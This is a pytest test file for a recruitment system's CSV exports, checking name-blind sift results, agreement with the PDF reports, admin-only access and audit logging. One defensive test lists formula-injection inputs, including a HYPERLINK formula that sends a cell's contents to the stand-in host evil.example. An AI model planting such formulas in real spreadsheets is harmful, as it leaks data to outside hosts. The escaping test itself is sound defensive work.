"""The spreadsheets of a stage's results: the same figures as the PDF reports, name-blind for the sift, every
formula escaped, and each download audited."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from recruit.clock import format_uk
from recruit.extensions import db
from recruit.models import AuditEvent
from recruit.services.errors import Refused
from recruit.services.interview import offers
from recruit.services.reports import spreadsheets
from recruit.services.reports.content.merit import merit_report
from tests.factories import sift_campaign
from tests.services.reports import test_report_content as scenario

NAMES = scenario.NAMES
# The hand-computed scenarios of the reports' own tests, as fixtures here too.
sift, interview = scenario.sift, scenario.interview


def rows_of(made: spreadsheets.Spreadsheet) -> list[list[str]]:
    assert made.body.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would not read it as UTF-8"
    return list(csv.reader(io.StringIO(made.body.decode("utf-8-sig"), newline="")))


def audit_entries() -> list[AuditEvent]:
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == "spreadsheet_downloaded")))


def test_the_sift_results_show_the_agreed_scores_totals_ranks_and_outcomes_without_names(sift):
    campaign = sift.campaign
    made = spreadsheets.download(sift.admin, campaign, spreadsheets.SHEETS["sift-results"])
    assert made.filename == f"{campaign.reference}-sift-results.csv"
    header, *rows = rows_of(made)
    criteria = [c.name for c in campaign.criteria_at("sift")]
    assert header == ["Application reference", *criteria, "Total", "Rank", "Shared rank", "Result", "Decision"]
    refs = [a.reference for a in sift.applications]
    # The hand-computed sift of the sift report's tests: 5 6 5 → 16 (=1), 5 6 5 → 16 (=1), 4 4 6 → 14 (3),
    # 3 5 5 → 13 failing on the first criterion's pass mark.
    assert sorted(rows) == [
        [refs[0], "5", "6", "5", "16", "1", "Yes", "Pass", "Invited to interview"],
        [refs[1], "5", "6", "5", "16", "1", "Yes", "Pass", "Invited to interview"],
        [refs[2], "4", "4", "6", "14", "3", "No", "Pass", "Invited to interview"],
        [refs[3], "3", "5", "5", "13", "", "", "Fail", "Not taken forward"],
    ]
    assert [row[0] for row in rows][2:] == [refs[2], refs[3]]  # in rank order
    text = made.body.decode("utf-8-sig")
    for application, name in zip(sift.applications, NAMES):
        assert name not in text and name.split()[0].lower() not in text
        assert application.personal_details.phone not in text
    (entry,) = audit_entries()
    assert entry.actor == sift.admin and entry.record_id == str(campaign.id)
    assert entry.after["file"] == made.filename and entry.after["rows"] == 4


def test_the_interview_results_and_merit_list_match_the_reports(interview):
    setup, *_ = interview
    campaign, people = setup.campaign, setup.applications
    made = spreadsheets.download(setup.admin, campaign, spreadsheets.SHEETS["interview-results"])
    assert made.filename == f"{campaign.reference}-interview-results.csv"
    header, *rows = rows_of(made)
    criteria = [c.name for c in campaign.criteria_at("interview")]
    assert header == [
        "Application reference",
        "Name",
        *criteria,
        "Total",
        "Appointable",
        "Merit list place",
        "Shared place",
    ]
    assert rows == [
        [people[0].reference, NAMES[0], "6", "6", "12", "Yes", "1", "No"],
        [people[1].reference, NAMES[1], "4", "5", "9", "Yes", "2", "No"],
        [people[2].reference, NAMES[2], "3", "5", "8", "No", "", ""],
        [people[3].reference, NAMES[3], "", "", "", "Did not attend the interview", "", ""],
    ]
    assert "Cornelius" not in made.body.decode("utf-8-sig")  # did not pass the sift: never interviewed

    made = spreadsheets.download(setup.admin, campaign, spreadsheets.SHEETS["merit-list"])
    assert made.filename == f"{campaign.reference}-merit-list.csv"
    header, *rows = rows_of(made)
    expiry = f"Expires on {format_uk(offers.merit_view(campaign).reserve_expires_at)}"
    assert header == [
        "Place",
        "Shared place",
        "Application reference",
        "Name",
        "Interview total",
        "Sift total",
        "Total",
        "Status",
        "Reserve list",
    ]
    assert rows == [
        ["1", "No", people[0].reference, NAMES[0], "12", "", "12", "Offer made", ""],
        ["2", "No", people[1].reference, NAMES[1], "9", "", "9", "Reserve list", expiry],
    ]
    # The same rows as the merit list report, field for field.
    report = merit_report(campaign).context["merit"]
    assert [[r["place"], r["reference"], r["name"], str(r["total"]), r["status"]] for r in report] == [
        [row[0], row[2], row[3], row[6], row[7]] for row in rows
    ]
    assert [e.after["file"] for e in audit_entries()] == [
        f"{campaign.reference}-interview-results.csv",
        f"{campaign.reference}-merit-list.csv",
    ]


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn"],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_escaped(hostile):
    assert spreadsheets.safe_cell(hostile) == "'" + hostile
    (row,) = list(csv.reader(io.StringIO(spreadsheets.to_csv(["Name"], [[hostile]]).decode("utf-8-sig"))))[1:]
    assert row == ["'" + hostile]


def test_plain_cells_and_numbers_are_left_as_they_are():
    assert spreadsheets.safe_cell("Ada O'Neill, Jr.") == "Ada O'Neill, Jr."
    assert spreadsheets.safe_cell(12) == "12" and spreadsheets.safe_cell(None) == ""
    body = spreadsheets.to_csv(["Name"], [['Say "hello", then go']]).decode("utf-8-sig")
    assert body == 'Name\r\n"Say ""hello"", then go"\r\n'


def test_nothing_is_downloaded_before_the_results_exist_nor_by_anyone_but_an_admin(make_user):
    setup = sift_campaign(make_user(role="admin"), applications=2)
    for sheet in spreadsheets.SHEETS.values():
        with pytest.raises(Refused, match="can be downloaded once"):
            spreadsheets.download(setup.admin, setup.campaign, sheet)
    with pytest.raises(Refused, match="Only an admin"):
        spreadsheets.download(setup.chair, setup.campaign, spreadsheets.SHEETS["sift-results"])
    assert audit_entries() == []
    assert [reason for _, reason in spreadsheets.offered(setup.admin, setup.campaign)] == [
        "The sift results can be downloaded once the sift is decided",
        "The interview results can be downloaded once the interview stage is signed off",
        "The merit list can be downloaded once the interview stage is signed off",
    ]
    assert spreadsheets.offered(setup.chair, setup.campaign) == []
